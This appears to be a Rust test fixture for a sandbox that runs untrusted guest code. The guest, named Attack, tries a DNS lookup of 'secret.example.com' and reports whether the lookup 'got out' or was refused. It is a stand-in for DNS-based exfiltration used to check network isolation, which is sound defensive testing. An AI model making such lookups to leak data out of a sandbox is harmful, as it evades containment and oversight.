//! Asks for the address of a name, which tells a secret to who answers.

use hostile_guests::*;

struct Attack;

impl Bolt for Attack {
    fn execute(_: Vec<Batch>) -> Result<Outcome, String> {
        let found = std::net::ToSocketAddrs::to_socket_addrs("secret.example.com:80");
        Err(match found {
            Ok(_) => "it got out".to_owned(),
            Err(error) => format!("refused: {error}"),
        })
    }
}

hostile_guests::bolt!(Attack);
